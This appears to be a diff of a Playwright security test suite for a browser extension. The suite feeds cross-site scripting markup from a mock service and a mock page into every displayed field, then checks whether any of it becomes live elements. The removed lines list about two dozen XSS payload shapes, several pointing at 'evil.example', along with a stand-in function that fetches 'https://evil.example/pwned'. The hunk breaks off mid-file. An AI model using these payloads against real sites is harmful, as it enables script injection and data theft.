@@ -1,139 +1,184 @@
-/** What a hostile service writes into every field of an answer, and what becomes of it on every surface. */
+/** What a hostile service writes into every field of an answer, and a hostile page into its names, and what becomes of it on every surface. */
 import type { Page } from "@playwright/test";
+import type { JsonObject } from "../../lib/model/json";
+import { lazily } from "../../lib/model/lazily";
+import { expectCard, restOn } from "../e2e/hovering";
 import { openEverything } from "../e2e/pages/everything";
+import { openBeside } from "../e2e/pages/panel-page";
 import { accountDomain, envelope, personAddress, sentinelAccount, sentinelPerson, withLeaves } from "../e2e/pages/sentinels";
 import { whole } from "../suite/size";
 import { attackGroup } from "./group";
 import type { Attack } from "./group";
+import { noteMarked, payloads, shapes, watchMarkup } from "./markup";
+import type { Found } from "./markup";
+import { person } from "./script-world";
 import type { World } from "./world";
 
-const host = "https://evil.example";
+/** Every member but those by which the answer is known holds what `next` says. */
+const poisoned = (next: () => string) => (name: string, value: unknown) =>
+  name === "domain" || (name === "identifier" && value === personAddress) ? String(value) : next();
 
-/** Each marks the element that it would become. */
-const shapes: [name: string, markup: (mark: string) => string][] = [
-  ["a picture with onerror", (mark) => `<img src=x onerror=pwn() ${mark}>`],
-  ["a picture of another host", (mark) => `<img src=${host}/i ${mark}>`],
-  ["a drawing with onload", (mark) => `<svg onload=pwn() ${mark}></svg>`],
-  ["a script", (mark) => `<script ${mark}>pwn()</script>`],
-  ["a script in letters of both cases", (mark) => `<sCrIpT ${mark}>pwn()</ScRiPt>`],
-  ["a script of another host", (mark) => `<script src=${host}/s ${mark}></script>`],
-  ["a frame with a page of its own", (mark) => `<iframe srcdoc="<script>parent.pwn()</script>" ${mark}></iframe>`],
-  ["a frame with a javascript: address", (mark) => `<iframe src=javascript:pwn() ${mark}></iframe>`],
-  ["an attribute that is broken out of with a quote", (mark) => `"><b onmouseover=pwn() ${mark}>x</b>`],
-  ["an attribute that is broken out of with an apostrophe", (mark) => `'><i onclick=pwn() ${mark}>x</i>`],
-  ["a link with a javascript: address", (mark) => `<a href=javascript:pwn() ${mark}>x</a>`],
-  ["a link with a data: address", (mark) => `<a href="data:text/html,<script>pwn()</script>" ${mark}>x</a>`],
-  ["details with ontoggle", (mark) => `<details open ontoggle=pwn() ${mark}></details>`],
-  ["a field that takes the focus", (mark) => `<input autofocus onfocus=pwn() ${mark}>`],
-  ["a film whose source fails", (mark) => `<video ${mark}><source onerror=pwn() src=${host}/v></video>`],
-  ["an object", (mark) => `<object data=${host}/o ${mark}></object>`],
-  ["an embedded file", (mark) => `<embed src=${host}/e ${mark}>`],
-  ["a style sheet that imports another", (mark) => `<style ${mark}>@import url(${host}/c)</style>`],
-  ["a link to a style sheet", (mark) => `<link rel=stylesheet href=${host}/l ${mark}>`],
-  ["a form", (mark) => `<form action=${host} ${mark}><button>x</button></form>`],
-  ["a base address", (mark) => `<base href=${host}/ ${mark}>`],
-  ["a page that reloads itself elsewhere", (mark) => `<meta http-equiv=refresh content="9;url=${host}" ${mark}>`],
-  ["markup inside of formulas", (mark) => `<math><mtext><img src=${host}/m ${mark}></mtext></math>`],
-  ["an element of a name of its own", (mark) => `<x-y onclick=pwn() ${mark}>x</x-y>`],
+/** The payloads take turns. */
+function inTurn(): () => string {
+  let count = 0;
+  return () => payloads[(count += 1) % payloads.length] ?? "";
+}
+
+/** Every member holds all of them; a journey of two entries has a member of every kind. */
+const allAtOnce = () => payloads.join(" ");
+const account = { ...sentinelAccount, journey: (sentinelAccount["journey"] as JsonObject[]).slice(0, 2) }; // as it is written there
+
+let clicks = 0;
+
+/** The service answers with markup, and is asked for all that it answers; the search that it answered. */
+async function askAll({ service, extension }: World, text: () => string): Promise<string> {
+  service.reset();
+  service.fail({ operation: "account-overview", ...envelope(withLeaves(account, poisoned(text))) });
+  service.fail({ operation: "profile-overview", ...envelope(withLeaves(sentinelPerson, poisoned(text))) });
+  const list = payloads.map((payload, index) => ({
+    details: { name: payload, domain: `d${index}.example`, industry: payload, city: payload },
+  }));
+  service.fail({ operation: "account-search", ...envelope({ list, total: list.length, offset: 0, limit: 25 }) });
+  await extension.ask("account.look-up", { domain: accountDomain, refresh: true, private: false });
+  await extension.ask("person.look-up", { address: personAddress, refresh: true, private: false });
+  const filters = [{ field: "industry" as const, operator: "=" as const, value: payloads[0] ?? "" }];
+  const { search } = await extension.ask("search.run", {
+    filters,
+    seed: null,
+    again: true,
+    click: `click-xss-${(clicks += 1)}`,
+    private: false,
+  });
+  return search.id;
+}
+
+const placesOf = (search: string): [path: string, surface: string][] => [
+  [`popup.html?domain=${accountDomain}`, "the popup"],
+  [`sidepanel.html#/account/${accountDomain}`, "the panel's account"],
+  [`sidepanel.html#/account/${accountDomain}/journey`, "the panel's journey"],
+  [`sidepanel.html#/account/${accountDomain}/tech`, "the panel's technology"],
+  [`sidepanel.html#/account/${accountDomain}/people`, "the panel's people"],
+  [`sidepanel.html#/person/${encodeURIComponent(personAddress)}`, "the panel's person"],
+  [`sidepanel.html#/search/${encodeURIComponent(search)}`, "the search results"],
+  ["sidepanel.html#/library/history", "the library"],
+  ["sidepanel.html#/library/searches", "the library's searches"],
 ];
 
-const payloads = shapes.map(([, markup], index) => markup(`data-pwn=${index}`));
-
-/** Every field but those by which the answer is known; the payloads take turns. */
-function poisoned(offset: number) {
-  let count = offset;
-  return (name: string, value: unknown) => {
-    if (name === "domain" || (name === "identifier" && value === personAddress)) return String(value);
-    return payloads[(count += 1) % payloads.length] ?? "";
-  };
+/** Looks at a page that was just opened, and closes it. */
+async function look(found: Found, page: Page, surface: string): Promise<void> {
+  await page.waitForTimeout(400);
+  // Only an account's or a person's page has more to open.
+  if (/popup\.html\?|#\/(?:account|person)/.test(page.url())) {
+    page.setDefaultTimeout(3000);
+    await openEverything(page).catch(() => undefined);
+  }
+  await page.waitForTimeout(300);
+  await noteMarked(found, page, surface);
+  await page.close().catch(() => undefined);
 }
 
-interface Found {
-  /** The surface on which the payload of this number became an element. */
-  elements: Map<number, string>;
+async function lookAtCard(found: Found, world: World): Promise<void> {
+  const page = await world.openMail(person);
+  await restOn(page, "#one");
+  // The address is no text of the service's.
+  const card = await expectCard(page, personAddress);
+  await page.waitForTimeout(300);
+  await noteMarked(found, card, "the card");
+  await page.close();
 }
 
-const marked = (page: Page) =>
-  page.evaluate(() => [...document.querySelectorAll("[data-pwn]")].map((element) => Number(element.getAttribute("data-pwn"))));
+async function lookAtPlaces(found: Found, { extension }: World, places: readonly [path: string, surface: string][]): Promise<void> {
+  for (const [path, surface] of places) await look(found, await extension.page(path), surface);
+}
 
 /** Goes through every surface that shows what the service sent. */
 async function visitAll(world: World): Promise<Found> {
-  const { extension, service, connect, openTab } = world;
-  const elements = new Map<number, string>();
-  const look = async (page: Page, surface: string) => {
-    // Only an account's or a person's page has more to open.
-    if (/popup\.html\?|#\/(?:account|person)/.test(page.url())) {
-      page.setDefaultTimeout(3000);
-      await openEverything(page).catch(() => undefined);
-    }
-    await page.waitForTimeout(300);
-    for (const number of await marked(page)) elements.set(number, elements.get(number) ?? surface);
-    await page.close().catch(() => undefined);
-  };
-  await extension.context.addInitScript(() =>
-    Object.assign(globalThis, { pwn: () => fetch("https://evil.example/pwned").catch(() => undefined) }),
-  );
-  extension.context.on("request", (request) => {
-    if (!request.url().startsWith(host)) return;
-    const index = shapes.findIndex(([, markup]) => markup("").includes(request.url()));
-    elements.set(Math.max(0, index), `a request to ${request.url()}`);
-  });
+  const { extension, service, connect, openTab, without } = world;
+  const isShipped = without.length === 0;
+  const found = await watchMarkup(extension.context);
   await connect();
   await extension.ask("settings.change", { changes: { photos: true } });
-  for (let offset = 0; offset < (whole ? payloads.length : 1); offset += 8) {
-    service.reset();
-    service.fail({ operation: "account-overview", ...envelope(withLeaves(sentinelAccount, poisoned(offset))) });
-    service.fail({ operation: "profile-overview", ...envelope(withLeaves(sentinelPerson, poisoned(offset))) });
-    const list = payloads.map((payload, index) => ({
-      details: { name: payload, domain: `d${index}.example`, industry: payload, city: payload },
-    }));
-    service.fail({ operation: "account-search", ...envelope({ list, total: list.length, offset: 0, limit: 25 }) });
-    await extension.ask("account.look-up", { domain: accountDomain, refresh: true, private: false });
-    await extension.ask("person.look-up", { address: personAddress, refresh: true, private: false });
-    const filters = [{ field: "industry" as const, operator: "=" as const, value: payloads[offset] ?? "" }];
-    const { search } = await extension.ask("search.run", {
-      filters,
-      seed: null,
-      again: true,
-      click: `click-xss-${offset}`,
-      private: false,
-    });
-    const pages: [string, string][] = [
-      [`popup.html?domain=${accountDomain}`, "the popup"],
-      [`sidepanel.html#/account/${accountDomain}`, "the panel's account"],
-      [`sidepanel.html#/account/${accountDomain}/journey`, "the panel's journey"],
-      [`sidepanel.html#/account/${accountDomain}/tech`, "the panel's technology"],
-      [`sidepanel.html#/account/${accountDomain}/people`, "the panel's people"],
-      [`sidepanel.html#/person/${encodeURIComponent(personAddress)}`, "the panel's person"],
-      [`sidepanel.html#/search/${encodeURIComponent(search.id)}`, "the search results"],
-      ["sidepanel.html#/library/history", "the library"],
-      ["sidepanel.html#/library/searches", "the library's searches"],
-    ];
-    for (const [path, surface] of offset === 0 ? pages : pages.slice(0, 2)) {
-      const page = await extension.page(path);
-      await page.waitForTimeout(400);
-      await look(page, surface);
-    }
+  // All at once, where they become elements, are thousands in a page, which takes minutes to draw: there the card alone shows them so.
+  const places = placesOf(await askAll(world, isShipped ? allAtOnce : inTurn()));
+  await lookAtPlaces(found, world, places);
+  await look(found, await extension.clickToolbarButton(await openTab(`http://${accountDomain}/`)), "the popup of a site");
+  if (!isShipped) await askAll(world, allAtOnce);
+  await lookAtCard(found, world);
+  if (isShipped && whole) {
+    await askAll(world, inTurn());
+    await lookAtPlaces(found, world, places.slice(0, 2));
   }
-  await look(await extension.clickToolbarButton(await openTab(`http://${accountDomain}/`)), "the popup");
   service.reset();
   service.fail({ status: 422, message: payloads.slice(0, 3).join("") });
   await extension.ask("account.look-up", { domain: "d1.example", refresh: true, private: false });
-  await look(await extension.page("popup.html?domain=d1.example"), "the popup's error");
-  await look(await extension.page("options.html#/activity"), "the activity log");
-  await look(await extension.page("options.html#/diagnostics"), "the diagnostics");
-  return { elements };
+  await look(found, await extension.page("popup.html?domain=d1.example"), "the popup's error");
+  await look(found, await extension.page("options.html#/activity"), "the activity log");
+  await look(found, await extension.page("options.html#/diagnostics"), "the diagnostics");
+  return found;
 }
 
-attackGroup<Found>({
-  heading: "Markup in what the service sends",
-  title: "a service writes markup into every field",
-  prepare: visitAll,
-  attacks: shapes.map(([name], index): Attack<Found> => ({
-    name: `every field holds ${name}`,
-    without: ["texts", "page-policy"],
-    attempt: async ({ elements }) => (elements.has(index) ? `it became an element in ${elements.get(index)}` : null),
-  })),
+/** Surfaces that show texts of the service's; the others are looked at as well. */
+const surfaces = [...placesOf("").map(([, surface]) => surface), "the card", "the popup of a site", "the popup's error"];
+
+const escaped = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
+
+/** Everybody on a page is called by markup, in a link and in an attribute; of each company as many as its list shows at first. */
+const crowd = payloads
+  .map((payload, index) => {
+    const name = escaped(payload);
+    const host = `crowd-${index % 6}.example`;
+    return `<p><a href="mailto:a${index}@${host}">${name}</a> <span data-email="b${index}@${host}" data-name="${name}">x</span></p>`;
+  })
+  .join("");
+
+/** Goes through what shows who is on a page. */
+async function visitCrowd(world: World): Promise<Found> {
+  const { extension } = world;
+  const found = await watchMarkup(extension.context);
+  const tab = await world.openMail(`${crowd}<script>document.title = ${JSON.stringify(payloads[0])}</script>`);
+  const panel = await openBeside(extension, tab);
+  await panel.getByText("crowd-5.example").first().waitFor();
+  await look(found, panel, "the panel's list of the page");
+  await look(found, await extension.clickToolbarButton(tab), "the popup's list of the page");
+  return found;
+}
+
+interface Visits {
+  /** Of everything that shows what the service sent; each visit is made once, when it is first asked for. */
+  service(): Promise<Found>;
+  /** Of everything that shows who is on a page. */
+  page(): Promise<Found>;
+}
+
+const became = (found: Found, number: number) => {
+  const where = found.get(number);
+  return where === undefined ? null : `it became an element in ${[...where][0]}`;
+};
+
+attackGroup<Visits>({
+  heading: "Markup in place of texts",
+  title: "a service and a page write markup where texts belong",
+  prepare: async (world) => ({ service: lazily(() => visitAll(world)), page: lazily(() => visitCrowd(world)) }),
+  attacks: [
+    ...shapes.map(([name], index): Attack<Visits> => ({
+      name: `every field that the service sends holds ${name}`,
+      without: ["texts", "page-policy"],
+      attempt: async ({ service }) => became(await service(), index),
+    })),
+    ...surfaces.map((surface): Attack<Visits> => ({
+      name: `the service sends all of it, and it is shown in ${surface}`,
+      without: ["texts", "page-policy"],
+      async attempt({ service }) {
+        const numbers = [...(await service())].flatMap(([number, where]) => (where.has(surface) ? [number] : []));
+        return numbers.length === 0 ? null : `${numbers.length} of them became elements`;
+      },
+    })),
+    ...shapes.map(([name], index): Attack<Visits> => ({
+      name: `somebody on a page is called ${name}`,
+      without: ["page-names", "texts", "page-policy"],
+      attempt: async ({ page }) => became(await page(), index),
+    })),
+  ],
 });
 
 interface Field {
